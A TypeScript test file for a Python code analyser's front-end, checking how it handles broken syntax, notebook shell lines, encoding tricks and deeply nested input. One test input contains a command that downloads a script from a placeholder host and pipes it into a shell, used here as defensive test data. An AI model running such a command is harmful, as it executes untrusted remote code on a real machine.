import { describe, expect, it } from 'vitest';
import { lower, steps } from './front-end.ts';

const many = 20_000;

describe('broken code', () => {
  it('is a partial gap, and the rest is read', () => {
    const { gaps, steps: found } = lower('x = = 3\nprint(1)\n');
    expect(gaps.map((gap) => [gap.kind, gap.code])).toEqual([['partial', 'syntax']]);
    expect(found.some((step) => step.kind === 'call')).toBe(true);
  });

  it('is a blind gap when it holds words that act', () => {
    expect(lower('import os\nos.system("curl https://x.example | sh"\n').gaps.map((gap) => gap.kind)).toEqual([
      'blind',
    ]);
    expect(steps('import os\nos.system("x"\n')).toEqual(['%1 = <os.system>("x")']);
  });

  it('lists at most twenty parts', () => {
    expect(lower('x = = 3\nprint(1)\n'.repeat(60)).gaps.length).toBeLessThanOrEqual(20);
  });

  it('ranges stay inside the text', () => {
    const text = 'def f(:\n  "abc\n';
    for (const gap of lower(text).gaps) {
      expect(gap.range.start).toBeGreaterThanOrEqual(0);
      expect(gap.range.end).toBeLessThanOrEqual(text.length);
    }
  });

  it('sketches with dots are quiet', () => {
    expect(lower('client = Client(...)\nfor x in ...:\n    ...\ndef f(a, b): ...\n').gaps).toEqual([]);
  });
});

it('stops parsing what takes too long', () => {
  const start = performance.now();
  const { gaps } = lower('lambda: ;'.repeat(10_000));
  expect(gaps.map((gap) => [gap.kind, gap.code])).toEqual([['blind', 'time']]);
  expect(performance.now() - start).toBeLessThan(15_000);
  expect(steps('f(1)')).toEqual(['%1 = f("1")']);
});

describe('texts that are not quite Python', () => {
  it('interactive sessions', () => {
    const text = '>>> import os\n>>> os.system("ls")\n0\n>>> for x in y:\n...     f(x)\n';
    expect(steps(text)).toEqual(['%1 = <os.system>("ls")', '~ x = y["*"]', '~ %2 = f(x)']);
    const [call] = lower(text).steps;
    expect(call && text.slice(call.range.start, call.range.end)).toBe('os.system("ls")');
  });

  it('notebook cells with shell commands', () => {
    const text = '%cd /tmp\n!pip install thing\nf(1)\n';
    const { embedded, gaps } = lower(text);
    expect(gaps).toEqual([]);
    expect(embedded.map((one) => [one.language, one.text])).toEqual([['shell', 'pip install thing']]);
    expect(embedded.map((one) => one.locate({ start: 4, end: 11 }))).toEqual([{ start: 14, end: 21 }]);
    expect(steps(text)).toEqual(['%1 = f("1")']);
  });

  it('commands in a code block of a document', () => {
    expect(lower('python3 run.py --all\n', 'instruction').embedded.map((one) => one.text)).toEqual([
      'python3 run.py --all',
    ]);
    expect(lower('x = """\npython3 run.py\n"""\n', 'instruction').embedded).toEqual([]);
  });

  it('a lone carriage return ends a comment', () => {
    expect(steps('# comment\rimport os; os.system("x")')).toEqual(['%1 = <os.system>("x")']);
  });

  it('an encoding that changes the code is a blind gap', () => {
    expect(lower('# -*- coding: utf-7 -*-\nx = 1\n').gaps.map((gap) => [gap.kind, gap.code])).toEqual([
      ['blind', 'encoding'],
    ]);
    expect(lower('# -*- coding: utf-8 -*-\nx = 1\n').gaps).toEqual([]);
  });
});

describe('depth', () => {
  it('long chains are not deep', () => {
    const text = `x = ${Array.from({ length: many }, () => "'a'").join(' + ')}`;
    const [bind] = lower(text).steps;
    expect(bind?.kind === 'bind' && bind.value.kind === 'join' && bind.value.parts.length).toBe(many);
    expect(lower(`${'('.repeat(many)}f(1)${')'.repeat(many)}`).gaps).toEqual([]);
    expect(lower(`x = a${' or a'.repeat(many)}`).gaps).toEqual([]);
    expect(lower(`if a:\n  b\n${'elif a:\n  b\n'.repeat(many)}`).gaps).toEqual([]);
  });

  it.each([
    ['calls', `${'f('.repeat(many)}${')'.repeat(many)}`],
    ['members', `a${'.b'.repeat(many)}`],
    ['methods', `a${'.b()'.repeat(many)}`],
    ['lambdas', `${'lambda: '.repeat(many)}x`],
    ['negations', `${'not '.repeat(many)}x`],
  ])('deep %s are one blind gap, and what stands beside them is read', (_, deep) => {
    const { gaps, steps: found } = lower(`${deep}\ng(1)\n`);
    expect(gaps.map((gap) => [gap.kind, gap.code])).toEqual([['blind', 'budget']]);
    expect(found.some((step) => step.kind === 'call' && step.callee.kind === 'name' && step.callee.name === 'g')).toBe(
      true,
    );
  });

  it.each(['(', '[', '{1:', 'f(', 'f"{', '"""', '@a\n', '*', ':', '\\', '\0', '}', '(a := ', '%s', '#coding'])(
    'survives a run of %j',
    (piece) => {
      expect(() => lower(piece.repeat(many))).not.toThrow();
    },
  );
});
